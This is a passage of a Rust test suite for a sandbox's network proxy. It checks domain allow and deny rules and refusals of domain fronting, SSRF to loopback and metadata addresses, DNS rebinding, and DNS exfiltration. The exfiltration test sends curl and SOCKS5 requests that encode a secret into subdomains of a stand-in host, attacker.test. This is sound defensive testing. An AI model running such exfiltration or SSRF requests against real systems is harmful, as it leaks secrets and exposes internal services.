            format!("[network]\nmode = \"proxy\"\nallow_domains = [\"{pattern}\"]\n"),
            0o644,
        );
        let run = fx
            .stockade(["policy".as_ref(), "check".as_ref(), policy.as_os_str()])
            .run();
        assert_ne!(
            run.code(),
            0,
            "policy check accepted {pattern:?}\n{}",
            run.describe()
        );
    }
    // Control: an ordinary pattern is accepted.
    fx.sandbox_argv(
        &["--net", "proxy", "--allow-domain", "*.example.com"],
        &["true"],
    )
    .run()
    .assert_success();
}

// ---------------------------------------------------------------------------------------
// --net host

/// Does the report say the network mode was `mode` (a `network_mode` key anywhere, or a
/// `mode` key inside a `network`/`net` object)?
fn report_says_mode(v: &Value, mode: &str, in_net: bool) -> bool {
    match v {
        Value::Object(map) => map.iter().any(|(k, val)| {
            let k_net = k.to_lowercase().contains("net");
            (k == "network_mode" || k == "net_mode" || (in_net && k == "mode"))
                && val.as_str() == Some(mode)
                || (k_net && val.as_str() == Some(mode))
                || report_says_mode(val, mode, in_net || k_net)
        }),
        Value::Array(items) => items.iter().any(|i| report_says_mode(i, mode, in_net)),
        _ => false,
    }
}

#[test]
fn net_host_reaches_the_host_loopback_and_is_recorded() {
    let Some(k) = Kit::new("--net host") else {
        return;
    };
    let marker = k.fx.marker("www");
    let srv = HttpServer::bind("127.0.0.1:0", &k.web_root("a", &marker));
    let script = curl(&format!("http://127.0.0.1:{}/file", srv.port()));
    let rec = k.fx.records();
    k.fx.attack(&strs(&opts(Some(&rec), &attacks::net("host"))), &script)
        .outcome()
        .assert_shows(&marker);
    let report = read_json(&rec.report);
    assert!(
        report_says_mode(&report, "host", false),
        "the report does not record network mode host:\n{report:#}"
    );
    let policy = k.fx.root.join("net-host.toml");
    write_file(&policy, "[network]\nmode = \"host\"\n", 0o644);
    let policy = policy.display().to_string();
    // What `--net host` needs besides the mode (`attacks::net`).
    let mut by_policy = vec!["--policy", &policy];
    by_policy.extend(attacks::net("host").into_iter().skip(2));
    k.fx.attack(&by_policy, &script)
        .outcome()
        .assert_shows(&marker);
    // Control: the default mode keeps the same listener out of reach.
    k.fx.attack(&[], &script).outcome().assert_blocked(&marker);
    let rec2 = k.fx.records();
    k.fx.attack(&strs(&opts(Some(&rec2), &["--net", "none"])), &script)
        .outcome()
        .assert_blocked(&marker);
    let report = read_json(&rec2.report);
    assert!(
        !report_says_mode(&report, "host", false),
        "a run in mode none must not be recorded as mode host:\n{report:#}"
    );
}

// ---------------------------------------------------------------------------------------
// --net proxy with test hosts (root only)

/// The web root of the server namespace: `file`, and `repo.git` (a bare repository prepared
/// for the dumb HTTP protocol) whose README holds `repo_marker`.
fn test_site(k: &Kit, marker: &str, repo_marker: &str) -> PathBuf {
    let root = k.web_root("site", marker);
    let git = which("git").expect("git");
    let src = k.fx.root.join("gitsrc");
    attacks::mkdir(&src);
    write_file(&src.join("README"), format!("{repo_marker}\n"), 0o644);
    let g = |dir: &Path, args: &[&str]| {
        Cmd::new(&git, dir)
            .env("HOME", &k.fx.home)
            .args([
                "-c",
                "safe.directory=*",
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t.invalid",
            ])
            .args([
                "-c",
                "commit.gpgsign=false",
                "-c",
                "init.defaultBranch=main",
            ])
            .args(args)
            .run()
            .assert_success();
    };
    g(&src, &["init", "-q"]);
    g(&src, &["add", "README"]);
    g(&src, &["commit", "-q", "-m", "r"]);
    let bare = root.join("repo.git");
    g(
        &k.fx.root,
        &[
            "clone",
            "-q",
            "--bare",
            &src.display().to_string(),
            &bare.display().to_string(),
        ],
    );
    g(&bare, &["update-server-info"]);
    root
}

/// `allowed.test` works over plain HTTP, CONNECT (curl https), SOCKS5 and `git clone`;
/// `other.test` (same address) is refused on all of them before connecting.
#[test]
fn proxy_allowed_domain_works_and_other_domain_is_refused() {
    let Some((k, net)) = test_net("allowed.test through the proxy") else {
        return;
    };
    let marker = k.fx.marker("site");
    let repo = k.fx.marker("repo");
    let tls_marker = k.fx.marker("tls");
    let root = test_site(&k, &marker, &repo);
    let web = net.server_http(&format!("{SERVER_IP}:80"), &root);
    let Some(tls) = k.tls_server(
        TestNet::tcp(&net.server, &format!("{SERVER_IP}:443")),
        &tls_marker,
    ) else {
        return;
    };
    let pre = net.prefix(&k.fx, TEST_HOSTS);
    let socks = format!("127.0.0.1:{PROXY_PORT}");
    let works = [
        (curl("http://allowed.test/file"), marker.clone()),
        ("curl -sS -f -k -m 5 https://allowed.test/".to_owned(), tls_marker.clone()),
        (
            format!("curl -sS -f -k -m 5 --socks5-hostname {socks} https://allowed.test/"),
            tls_marker.clone(),
        ),
        (
            r#"d=$(mktemp -d) && git clone -q http://allowed.test/repo.git "$d/c" && cat "$d/c/README"; r=$?; rm -rf "$d"; exit $r"#
                .to_owned(),
            repo.clone(),
        ),
    ];
    let recorded = [
        ("http", 80),
        ("connect", 443),
        ("socks5", 443),
        ("http", 80),
    ];
    for ((script, m), (protocol, port)) in works.iter().zip(recorded) {
        let rec = k.fx.records();
        let o = opts(
            Some(&rec),
            &["--net", "proxy", "--allow-domain", "allowed.test"],
        );
        let out = k.fx.attack(&strs(&o), script).under(&pre).outcome();
        out.assert_shows(m);
        assert_allowed(&rec, &out.run, protocol, "allowed.test", port);
    }

    let (web_before, tls_before) = (web.connections(), tls.connections());
    let rec2 = k.fx.records();
    let o2 = opts(
        Some(&rec2),
        &["--net", "proxy", "--allow-domain", "allowed.test"],
    );
    let out =
        k.fx.attack(
            &strs(&o2),
            &format!(
                "{}; curl -sS -f -k -m 5 https://other.test/ && exit 10; {}; \
                 git clone -q http://other.test/repo.git /tmp/c && exit 11; true",
                curl_i("http://other.test/file"),
                k.client(&format!("socks5 {PROXY_PORT} other.test 443 other.test /"))
            ),
        )
        .under(&pre)
        .outcome();
    assert_http_refused(&out, &marker);
    out.assert_output_contains("socks-reply: 2")
        .assert_lacks(&tls_marker)
        .assert_lacks(&repo);
    settle();
    assert_eq!(web.connections(), web_before, "other.test:80 was contacted");
    assert_eq!(
        tls.connections(),
        tls_before,
        "other.test:443 was contacted"
    );
    assert_denied(&rec2, &out.run, "http", "other.test", 80, true);
    assert_denied(&rec2, &out.run, "connect", "other.test", 443, true);
    assert_denied(&rec2, &out.run, "socks5", "other.test", 443, true);
    // Controls: without stockade (in the client namespace, same hosts file), the very same
    // names reach the servers directly (there is no SOCKS server outside), other.test
    // included.
    for (script, m) in works.iter().filter(|(s, _)| !s.contains("--socks5")) {
        k.fx.control(script).under(&pre).outcome().assert_shows(m);
    }
    k.fx.control(&curl("http://other.test/file"))
        .under(&pre)
        .outcome()
        .assert_shows(&marker);
}

/// Domain fronting: a CONNECT to allowed.test whose TLS SNI names another host (or none) is
/// refused, as is a non-TLS stream in the tunnel; the matching SNI works.
#[test]
fn proxy_refuses_a_tunnel_whose_sni_differs_from_the_connect_host() {
    let Some((k, net)) = test_net("SNI check") else {
        return;
    };
    let marker = k.fx.marker("site");
    let tls_marker = k.fx.marker("tls");
    let web = net.server_http(&format!("{SERVER_IP}:80"), &k.web_root("site", &marker));
    let Some(tls) = k.tls_server(
        TestNet::tcp(&net.server, &format!("{SERVER_IP}:443")),
        &tls_marker,
    ) else {
        return;
    };
    let pre = net.prefix(&k.fx, TEST_HOSTS);
    let o = ["--net", "proxy", "--allow-domain", "allowed.test"];
    // The honest tunnel works (the control inside).
    k.fx.attack(
        &o,
        &k.client(&format!(
            "connect {PROXY_PORT} allowed.test 443 allowed.test /"
        )),
    )
    .under(&pre)
    .outcome()
    .assert_shows(&tls_marker);
    let reqs = tls.requests();
    let web_before = web.heads().len();
    let (tls_conns, web_conns) = (tls.connections(), web.connections());
    for (mode, port) in [
        ("other.test", 443),
        ("-", 443),
        ("plain", 80),
        ("plain", 443),
    ] {
        let rec = k.fx.records();
        let out =
            k.fx.attack(
                &strs(&opts(Some(&rec), &o)),
                &k.client(&format!(
                    "connect {PROXY_PORT} allowed.test {port} {mode} /file"
                )),
            )
            .under(&pre)
            .outcome();
        out.assert_failed()
            .assert_lacks(&tls_marker)
            .assert_lacks(&marker);
        // The stream is checked before the proxy dials the target.
        assert_denied(&rec, &out.run, "connect", "allowed.test", port, true);
    }
    // Through SOCKS5 as well.
    let out =
        k.fx.attack(
            &o,
            &k.client(&format!(
                "socks5 {PROXY_PORT} allowed.test 443 other.test /"
            )),
        )
        .under(&pre)
        .outcome();
    out.assert_failed().assert_lacks(&tls_marker);
    settle();
    assert_eq!(
        tls.requests(),
        reqs,
        "a fronted request reached the TLS server"
    );
    assert_eq!(
        web.heads().len(),
        web_before,
        "a plain request went through a tunnel"
    );
    assert_eq!(
        (tls.connections(), web.connections()),
        (tls_conns, web_conns),
        "a refused tunnel was connected to its target before the check"
    );
    // Control: the server itself serves a request fronted with SNI other.test.
    k.fx.control(&k.client(&format!("tls {SERVER_IP} 443 other.test /")))
        .under(&pre)
        .outcome()
        .assert_shows(&tls_marker);
}

/// Domain fronting over plain HTTP: the Host header must match the absolute-form target.
#[test]
fn proxy_refuses_a_host_header_that_differs_from_the_target() {
    let Some((k, net)) = test_net("Host header check") else {
        return;
    };
    let marker = k.fx.marker("site");
    let web = net.server_http(&format!("{SERVER_IP}:80"), &k.web_root("site", &marker));
    let pre = net.prefix(&k.fx, TEST_HOSTS);
    let script = "curl -sS -m 5 -i -H 'Host: other.test' http://allowed.test/file";
    let rec = k.fx.records();
    let out =
        k.fx.attack(
            &strs(&opts(
                Some(&rec),
                &["--net", "proxy", "--allow-domain", "allowed.test"],
            )),
            script,
        )
        .under(&pre)
        .outcome();
    assert_http_refused(&out, &marker);
    settle();
    assert_eq!(
        web.connections(),
        0,
        "the fronted request reached the server: {:?}",
        web.heads()
    );
    assert_denied(&rec, &out.run, "http", "allowed.test", 80, true);
    // Control: with the host's network the server answers it.
    if attacks::not_applicable(&attacks::na::DOCKER_DAEMON) {
        return;
    }
    k.fx.attack(&attacks::net("host"), script)
        .under(&pre)
        .outcome()
        .assert_shows(&marker);
    assert!(web.heads().iter().any(|h| h.contains("Host: other.test")));
}

#[test]
fn proxy_deny_domain_wins_over_allow_domain() {
    let Some((k, net)) = test_net("deny wins") else {
        return;
    };
    let marker = k.fx.marker("site");
    let web = net.server_http(&format!("{SERVER_IP}:80"), &k.web_root("site", &marker));
    let pre = net.prefix(&k.fx, TEST_HOSTS);
    let wild = ["--net", "proxy", "--allow-domain", "*.allowed.test"];
    let mut deny = wild.to_vec();
    deny.extend(["--deny-domain", "api.allowed.test"]);
    k.fx.attack(&deny, &curl("http://www.allowed.test/file"))
        .under(&pre)
        .outcome()
        .assert_shows(&marker);
    let before = web.connections();
    let rec = k.fx.records();
    let out =
        k.fx.attack(
            &strs(&opts(Some(&rec), &deny)),
            &curl_i("http://api.allowed.test/file"),
        )
        .under(&pre)
        .outcome();
    assert_http_refused(&out, &marker);
    assert_denied(&rec, &out.run, "http", "api.allowed.test", 80, true);
    // The same name allowed and denied: denied.
    let both = [
        "--net",
        "proxy",
        "--allow-domain",
        "allowed.test",
        "--deny-domain",
        "allowed.test",
    ];
    assert_http_refused(
        &k.fx
            .attack(&both, &curl_i("http://allowed.test/file"))
            .under(&pre)
            .outcome(),
        &marker,
    );
    // `*.allowed.test` means subdomains only.
    assert_http_refused(
        &k.fx
            .attack(&wild, &curl_i("http://allowed.test/file"))
            .under(&pre)
            .outcome(),
        &marker,
    );
    settle();
    assert_eq!(web.connections(), before, "a denied name was contacted");
    // Control: without the deny rule, api.allowed.test is reachable.
    k.fx.attack(&wild, &curl("http://api.allowed.test/file"))
        .under(&pre)
        .outcome()
        .assert_shows(&marker);
}

/// The address of an allowed name, as an IP literal, is refused (IP literals only through
/// allow_hosts); an allow_hosts entry for it opens it.
#[test]
fn proxy_refuses_the_ip_literal_of_an_allowed_name() {
    let Some((k, net)) = test_net("IP literal of an allowed name") else {
        return;
    };
    let marker = k.fx.marker("site");
    let web = net.server_http(&format!("{SERVER_IP}:80"), &k.web_root("site", &marker));
    let pre = net.prefix(&k.fx, TEST_HOSTS);
    let o = ["--net", "proxy", "--allow-domain", "allowed.test"];
    let rec = k.fx.records();
    let out =
        k.fx.attack(
            &strs(&opts(Some(&rec), &o)),
            &curl_i(&format!("http://{SERVER_IP}/file")),
        )
        .under(&pre)
        .outcome();
    assert_http_refused(&out, &marker);
    settle();
    assert_eq!(web.connections(), 0, "the IP literal was contacted");
    assert_denied(&rec, &out.run, "http", SERVER_IP, 80, true);
    k.fx.attack(&o, &curl("http://allowed.test/file"))
        .under(&pre)
        .outcome()
        .assert_shows(&marker);
    let allow = format!("{SERVER_IP}:80");
    k.fx.attack(
        &["--net", "proxy", "--allow-host", &allow],
        &curl(&format!("http://{SERVER_IP}/file")),
    )
    .under(&pre)
    .outcome()
    .assert_shows(&marker);
}

/// SSRF: allowed names resolving to 127.0.0.1, 10.x, 169.254.169.254, ::ffff:127.0.0.1, ::1,
/// or to a public address *and* a ULA one, are refused before any connection (listeners on
/// each of those addresses in the client namespace count). An allow_hosts entry for the
/// address is the way to open one.
#[test]
fn proxy_refuses_allowed_names_that_resolve_to_private_addresses() {
    let Some((k, net)) = test_net("SSRF through names") else {
        return;
    };
    let marker = k.fx.marker("private");
    let root = k.web_root("private", &marker);
    let lo4 = net.client_http("127.0.0.1:0", &root);
    let port = lo4.port();
    let ten = net.client_http(&format!("10.1.2.3:{port}"), &root);
    let meta = net.client_http(&format!("169.254.169.254:{port}"), &root);
    let lo6 = net.client_http(&format!("[::1]:{port}"), &root);
    let listeners = [
        ("127.0.0.1", &lo4),
        ("10.1.2.3", &ten),
        ("169.254.169.254", &meta),
        ("::1", &lo6),
    ];
    let public = net.server_http(&format!("{SERVER_IP}:{port}"), &root);
    let pre = net.prefix(&k.fx, TEST_HOSTS);
    let names = [
        "lo4.test",
        "ten.test",
        "meta.test",
        "mapped.test",
        "lo6.test",
        "mixed.test",
    ];
    for name in names {
        let rec = k.fx.records();
        let o = opts(Some(&rec), &["--net", "proxy", "--allow-domain", name]);
        let out =
            k.fx.attack(&strs(&o), &curl_i(&format!("http://{name}:{port}/file")))
                .under(&pre)
                .outcome();
        assert_http_refused(&out, &marker);
        assert_denied(&rec, &out.run, "http", name, port, true);
    }
    settle();
    for (addr, l) in &listeners {
        assert_eq!(l.connections(), 0, "{addr}:{port} was contacted");
    }
    assert_eq!(
        public.connections(),
        0,
        "mixed.test's public address was contacted"
    );
    // Controls: each name really leads to its listener without stockade.
    for name in names {
        k.fx.control(&curl(&format!("http://{name}:{port}/file")))
            .under(&pre)
            .outcome()
            .assert_shows(&marker);
    }
    for (addr, l) in &listeners {
        assert!(l.connections() > 0, "control did not reach {addr}");
    }
    // An explicit allow_hosts entry for the address opens the name.
    let allow = format!("10.1.2.3:{port}");
    k.fx.attack(
        &[
            "--net",
            "proxy",
            "--allow-domain",
            "ten.test",
            "--allow-host",
            &allow,
        ],
        &curl(&format!("http://ten.test:{port}/file")),
    )
    .under(&pre)
    .outcome()
    .assert_shows(&marker);
}

/// DNS rebinding: `rebind.test` answers 198.51.100.2 first and 127.0.0.1 afterwards. The
/// proxy connects to the address it checked (the public one), never to loopback.
#[test]
fn proxy_connects_only_to_the_address_it_checked() {
    let Some((k, net)) = test_net("DNS rebinding") else {
        return;
    };
    let public_marker = k.fx.marker("public");
    let loop_marker = k.fx.marker("loopback");
    let lo = net.client_http("127.0.0.1:0", &k.web_root("loop", &loop_marker));
    let port = lo.port();
    let public = net.server_http(
        &format!("{SERVER_IP}:{port}"),
        &k.web_root("public", &public_marker),
    );
    let dns = net.dns();
    let pre = net.prefix(&k.fx, "127.0.0.1 localhost\n");
    // Control: the resolver really rebinds (first public, then loopback).
    let out = k
        .fx
        .control("getent ahostsv4 rebind.test | head -1; getent ahostsv4 rebind.test | head -1")
        .under(&pre)
        .outcome();
    out.assert_ok();
    let first: Vec<&str> = out
        .run
        .stdout
        .lines()
        .filter_map(|l| l.split_whitespace().next())
        .filter(|w| w.contains('.'))
        .collect();
    assert_eq!(
        first,
        [SERVER_IP, "127.0.0.1"],
        "the test resolver does not rebind\n{}",
        out.run.describe()
    );
    dns.reset_rebind();
    let rec = k.fx.records();
    let out =
        k.fx.attack(
            &strs(&opts(
                Some(&rec),
                &["--net", "proxy", "--allow-domain", "rebind.test"],
            )),
            &curl(&format!("http://rebind.test:{port}/file")),
        )
        .under(&pre)
        .outcome();
    out.assert_shows(&public_marker).assert_lacks(&loop_marker);
    settle();
    assert_eq!(
        lo.connections(),
        0,
        "the proxy connected to the rebound loopback address"
    );
    assert!(public.connections() > 0);
    assert_allowed(&rec, &out.run, "http", "rebind.test", port);
    let events = net_events(&rec);
    assert!(
        events
            .iter()
            .any(|e| json_str(e, "addr").contains(SERVER_IP)),
        "the event should record the address connected to ({SERVER_IP}):\n{events:#?}"
    );
}

/// A name that does not resolve is refused with why in plain words (issue 18, item 10), not
/// the resolver's debug output (`no records found for Query { name: Name("...") ... }`): in
/// the 403, the report, the audit log and on stderr. First with nothing answering at
/// resolv.conf's server, then with the test server answering NXDOMAIN; `.invalid` never
/// exists. Only the test namespaces' resolver is asked.
#[test]
fn proxy_says_in_plain_words_why_a_name_did_not_resolve() {
    let Some((k, net)) = test_net("DNS failures in plain words") else {
        return;
    };
    let pre = net.prefix(&k.fx, TEST_HOSTS);
    let marker = k.fx.marker("never-served");
    let refused = |name: &str| -> String {
        let rec = k.fx.records();
        let o = opts(Some(&rec), &["--net", "proxy", "--allow-domain", name]);
        let out =
            k.fx.attack(&strs(&o), &curl_i(&format!("http://{name}/")))
                .under(&pre)
                .outcome();
        let answered = assert_http_refused(&out, &marker);
        let reason = assert_denied(&rec, &out.run, "http", name, 80, true);
        for text in [&answered, &reason, &out.run.stderr] {
            assert!(
                !["Query {", "Name(\"", "Custom {", "kind:"]
                    .iter()
                    .any(|debug| text.contains(debug)),
                "debug output in a refusal:\n{text}"
            );
        }
        assert!(answered.starts_with(&reason), "{answered:?} / {reason:?}");
        reason
    };
    let silent = refused("silent.test");
    assert!(
        [
            "could not resolve silent.test: the resolver did not answer",
            "could not resolve silent.test: no DNS server could be reached (connection refused)",
        ]
        .contains(&silent.as_str()),
        "{silent}"
    );
    let _dns = net.dns();
    assert_eq!(
        refused("nowhere.test"),
        "could not resolve nowhere.test: no such host (NXDOMAIN)"
    );
    assert_eq!(
        refused("nowhere.invalid"),
        "could not resolve nowhere.invalid: no such host (NXDOMAIN)"
    );
}

/// DNS exfiltration through the proxy (CVE-2025-55284 class): a secret encoded in a name the
/// rules refuse never reaches a DNS server, because the proxy checks the rules before it
/// resolves anything (HTTP, CONNECT and SOCKS5 alike). Control: the same requests under a rule
/// that allows those names do reach the test resolver (resolv.conf's server), so a query would
/// have been seen.
#[test]
fn proxy_resolves_no_name_its_rules_refuse() {
    let Some((k, net)) = test_net("DNS exfiltration through the proxy") else {
        return;
    };
    let dns = net.dns();
    let pre = net.prefix(&k.fx, TEST_HOSTS);
    let secret = format!("secret-{}", k.fx.id);
    let script = |tag: &str| {
        format!(
            "{}; {}; {}; true",
            curl(&format!("http://{secret}-{tag}-h.attacker.test/")),
            curl(&format!("https://{secret}-{tag}-c.attacker.test/")),
            k.client(&format!(
                "socks5 {PROXY_PORT} {secret}-{tag}-s.attacker.test 80 plain /"
            )),
        )
    };
    let rec = k.fx.records();
    let out =
        k.fx.attack(
            &strs(&opts(
                Some(&rec),
                &["--net", "proxy", "--allow-domain", "allowed.test"],
            )),
            &script("deny"),
        )
        .under(&pre)
        .outcome();
    out.assert_ok();
    assert_denied(
        &rec,
        &out.run,
        "http",
        &format!("{secret}-deny-h.attacker.test"),
        80,
        true,
    );
    settle();
    assert_eq!(
        dns.count(),
        0,
        "the proxy resolved a name its rules refuse\n{}",
        out.run.describe()
    );
    k.fx.attack(
        &["--net", "proxy", "--allow-domain", "*.attacker.test"],
        &script("allow"),
    )
    .under(&pre)
    .outcome()
    .assert_ok();
    settle();
    for kind in ["h", "c", "s"] {
        assert!(
            dns.saw(&format!("{secret}-allow-{kind}")),
            "the control's {kind} request did not reach the test resolver"
        );
    }
}

/// Every name of [`TEST_HOSTS`] resolves in the private hosts file and not on the host
/// (the test never touches the real /etc/hosts).
#[test]
fn test_hosts_file_is_private_to_the_run() {
    let Some((k, net)) = test_net("private hosts file") else {
        return;
    };
    let pre = net.prefix(&k.fx, TEST_HOSTS);
    k.fx.control("getent hosts allowed.test")
        .under(&pre)
        .outcome()
        .assert_shows(SERVER_IP);
    let real = read_text(Path::new("/etc/hosts")).unwrap_or_default();
    assert!(
        !real.contains("allowed.test"),
        "the real /etc/hosts was modified"
    );
    assert!(is_root());
}

/// A CONNECT to a host the one normalizer refuses (`127.1`, which resolvers read as
/// 127.0.0.1; `a-.test`, a label ending in `-`) is refused before any connection and recorded
/// like any other refusal: 403 with the reason, an `E_NETWORK_DENIED` event with the rule
/// `invalid host name` in the report and the audit log (issue 16: the proxy and the rules
/// share the normalizer; such hosts used to get a bare 400 and no record). Control: without
/// stockade `127.1` does reach the loopback server.
#[test]
fn proxy_refuses_and_records_hosts_the_normalizer_refuses() {
    let Some(k) = Kit::new("invalid hosts") else {
        return;
    };
    let marker = k.fx.marker("www");
    let srv = HttpServer::bind("127.0.0.1:0", &k.web_root("a", &marker));
    let port = srv.port();
    for host in ["127.1", "a-.test"] {
        let rec = k.fx.records();
        let o = opts(
            Some(&rec),
            &[
                "--net",
                "proxy",
                "--allow-host",
                &format!("127.0.0.1:{port}"),
            ],
        );
        let out =
            k.fx.attack(
                &strs(&o),
                &k.client(&format!("connect {PROXY_PORT} {host} {port} plain /file")),
            )
            .outcome();
        out.assert_failed().assert_lacks(&marker);
        assert!(
            header(&out.run.stdout, DENIED_HEADER).is_some_and(|v| v.contains("invalid host")),
            "the refused CONNECT has no {DENIED_HEADER} header naming the invalid host\n{}",
            out.run.describe()
        );
        let authority = format!("{host}:{port}");
        for (what, events) in [
            ("report", net_events(&rec)),
            ("audit", audit_net_events(&rec)),
        ] {
            assert!(
                events.iter().any(|e| json_str(e, "code") == DENIED
                    && json_str(e, "protocol") == "connect"
                    && json_str(e, "host") == authority
                    && json_str(e, "rule") == "invalid host name"
                    && e.get("before_connect").and_then(Value::as_bool) == Some(true)),
                "{what} has no refusal of {authority}:\n{events:#?}"
            );
        }
    }
    assert_eq!(srv.connections(), 0, "a refused host was contacted");
    k.fx.control(&k.client(&format!("tcp 127.1 {port} /file")))
        .outcome()
        .assert_shows(&marker);
}
